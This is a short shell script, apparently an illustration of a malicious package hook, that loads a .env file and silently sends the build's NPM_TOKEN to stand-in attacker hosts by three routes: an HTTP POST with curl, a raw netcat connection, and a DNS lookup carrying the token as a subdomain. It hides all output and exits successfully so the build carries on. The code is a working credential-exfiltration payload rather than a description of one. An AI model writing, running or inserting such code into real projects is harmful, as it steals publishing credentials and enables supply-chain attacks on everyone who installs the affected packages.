#!/bin/sh
# What a compromised package does: takes the build's token and sends it away by
# every way it knows, without a word, and lets the build go on.
. ../../.env
{
  curl -sS --max-time 5 --data "token=$NPM_TOKEN" https://evil.test/collect
  printf 'token=%s' "$NPM_TOKEN" | nc -N -w 5 203.0.113.66 4444
  dig +short +tries=1 +time=5 "$NPM_TOKEN.evil.test" A
} > /dev/null 2>&1
exit 0
